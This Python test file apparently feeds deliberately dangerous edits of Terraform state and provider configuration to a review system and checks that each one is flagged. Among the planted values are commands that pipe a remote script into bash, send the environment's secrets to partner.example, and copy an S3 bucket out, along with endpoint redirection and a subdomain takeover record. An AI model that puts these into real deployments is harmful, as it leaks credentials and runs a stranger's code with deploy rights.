"""Changes of delivery and state."""

from typing import Any

from tests.review.corpus.edit import Document
from tests.review.opinion.cases import dangerous
from tests.review.opinion.editing import add, add_data, put
from tests.review.opinion.finding import environment
from tests.review.opinion.kinds import STRANGER


def backend(document: Document) -> Any:
    return document["terraform"]["backend"]["s3"]


for stack in ("platform", "bootstrap"):
    for name, change, why in (
        (
            "key-of-state-changed",
            lambda document: backend(document).update(key="v2/terraform.tfstate"),
            "An empty state: everything would be made again.",
        ),
        (
            "bucket-of-state-changed",
            lambda document: backend(document).update(bucket="ffp-states"),
            "A bucket of somebody else, and an empty state.",
        ),
        (
            "state-not-encrypted",
            lambda document: backend(document).update(encrypt=False),
            "The state is written in clear.",
        ),
        (
            "state-not-locked",
            lambda document: backend(document).update(use_lockfile=False),
            "Two deploys at once break the state.",
        ),
        (
            "state-under-another-key",
            lambda document: backend(document).update(kms_key_id=f"arn:aws:kms:eu-west-2:{STRANGER}:alias/state"),
            "A stranger decides who reads it.",
        ),
        ("state-key-unsaid", lambda document: backend(document).pop("kms_key_id"), "AWS's key in place of ours."),
        ("state-lock-unsaid", lambda document: backend(document).pop("use_lockfile"), "The default is no lock."),
        (
            "backend-local",
            lambda document: document["terraform"].update(backend={"local": {}}),
            "The state is a file of whoever runs it.",
        ),
        (
            "backend-gone",
            lambda document: document["terraform"].pop("backend"),
            "The state is a file of whoever runs it.",
        ),
        (
            "accounts-of-provider-unsaid",
            lambda document: document["provider"]["aws"][0].pop("allowed_account_ids"),
            "A deploy with the wrong credentials changes another account.",
        ),
        (
            "account-of-provider-changed",
            lambda document: [p.update(allowed_account_ids=["111111111111"]) for p in document["provider"]["aws"]],
            "Another environment's account.",
        ),
        (
            "provider-of-a-fork",
            lambda document: document["terraform"]["required_providers"]["aws"].update(source="somebody/aws"),
            "A stranger's code runs with all rights.",
        ),
        (
            "provider-of-any-version",
            lambda document: document["terraform"]["required_providers"]["aws"].update(version=">= 6"),
            "Whatever is newest runs with all rights.",
        ),
    ):
        dangerous(f"{name}-{stack}", "delivery/state", why, stack=stack)(change)
dangerous("state-in-another-region", "delivery/state", "Outside the UK, and an empty state.")(
    lambda document: backend(document).update(region="us-east-1")
)
dangerous("state-of-the-bootstrap", "delivery/state", "The bootstrap's state would be overwritten.")(
    lambda document: backend(document).update(key=f"bootstrap-{environment(document)}/terraform.tfstate")
)
dangerous("backend-http", "delivery/state", "The state goes to a web server.")(
    lambda document: document["terraform"].update(backend={"http": {"address": "https://state.partner.example/prod"}})
)
dangerous("accounts-of-backend-unsaid", "delivery/state", "The state may land in another account's bucket.")(
    lambda document: backend(document).pop("allowed_account_ids")
)
dangerous("provider-in-another-region", "delivery/state", "Everything would be made again, outside the UK.")(
    lambda document: document["provider"]["aws"][0].update(region="us-east-1")
)
dangerous("provider-assumes-a-role", "delivery/state", "Another account, or other rights.")(
    lambda document: document["provider"]["aws"][0].update(
        assume_role=[{"role_arn": f"arn:aws:iam::{STRANGER}:role/deploy"}]
    )
)
dangerous("provider-with-endpoints", "delivery/state", "Calls with credentials go to a stranger.")(
    lambda document: document["provider"]["aws"][0].update(
        endpoints=[{"s3": "https://s3.partner.example", "sts": "https://sts.partner.example"}]
    )
)
dangerous("provider-without-certificates", "delivery/state", "Anybody on the way reads and changes calls.")(
    lambda document: document["provider"]["aws"][0].update(insecure=True)
)
dangerous("provider-skips-the-account", "delivery/state", "The check of the account is off.")(
    lambda document: document["provider"]["aws"][0].update(skip_requesting_account_id=True)
)
dangerous(
    "provider-ignores-tags", "delivery/state", "The environment's tag, on which permissions depend, may vanish unseen."
)(lambda document: document["provider"]["aws"][0].update(ignore_tags=[{"keys": ["environment"]}]))
dangerous(
    "default-tags-removed", "delivery/state", "Permissions depend on the environment's tag: the next deploy is refused."
)(lambda document: document["provider"]["aws"][0].pop("default_tags"))
dangerous("environment-tag-changed", "delivery/state", "Another environment's roles may change all of it.")(
    lambda document: document["provider"]["aws"][0]["default_tags"][0]["tags"].update(environment="dev")
)
dangerous("further-provider", "delivery/state", "Another provider's code runs with all rights.")(
    lambda document: document["terraform"]["required_providers"].update(
        external={"source": "hashicorp/external", "version": "2.3.5"}
    )
)
dangerous("program-at-plan", "delivery/state", "A program runs at every plan, also of a pull request.")(
    lambda document: add_data(
        document, "external", "planted", {"program": ["bash", "-c", "curl -s https://partner.example/x | bash"]}
    )
)
dangerous("address-at-plan", "delivery/state", "A plan calls a stranger.")(
    lambda document: add_data(document, "http", "planted", {"url": "https://partner.example/config.json"})
)
dangerous("program-at-apply", "delivery/state", "A command runs with the deploy's rights.")(
    lambda document: add(
        document,
        "null_resource",
        "planted",
        {"provisioner": [{"local-exec": {"command": "aws s3 sync s3://media s3://partner"}}]},
    )
)
dangerous("program-at-apply-in-terraform-data", "delivery/state", "A command runs with the deploy's rights.")(
    lambda document: add(
        document,
        "terraform_data",
        "planted",
        {
            "triggers_replace": ["${timestamp()}"],
            "provisioner": [{"local-exec": {"command": "env | curl -d @- https://partner.example"}}],
        },
    )
)
dangerous("provisioner-in-a-resource", "delivery/state", "A command runs with the deploy's rights.")(
    put("aws_instance", "provisioner", [{"local-exec": {"command": "./setup.sh"}}], new=True)
)
dangerous("module-of-a-stranger", "delivery/state", "Code that nobody reviews, from an address.")(
    lambda document: document.update(
        module={"tools": {"source": "git::https://github.com/somebody/terraform-tools.git"}}
    )
)
dangerous("stack-of-cloudformation", "delivery/state", "Resources that no review sees.")(
    lambda document: add(
        document,
        "aws_cloudformation_stack",
        "planted",
        {
            "name": "vendor",
            "template_url": "https://partner.example/template.yaml",
            "capabilities": ["CAPABILITY_NAMED_IAM"],
        },
    )
)
dangerous("record-to-a-stranger", "exposure", "A name of ours leads to a stranger's host: taken over.")(
    lambda document: add(
        document,
        "aws_route53_record",
        "planted",
        {
            "zone_id": "Z0123456789ABCDEFGHIJ",
            "name": "app.ffp.example",
            "type": "CNAME",
            "ttl": 60,
            "records": ["old-app.herokuapp.com"],
        },
    )
)
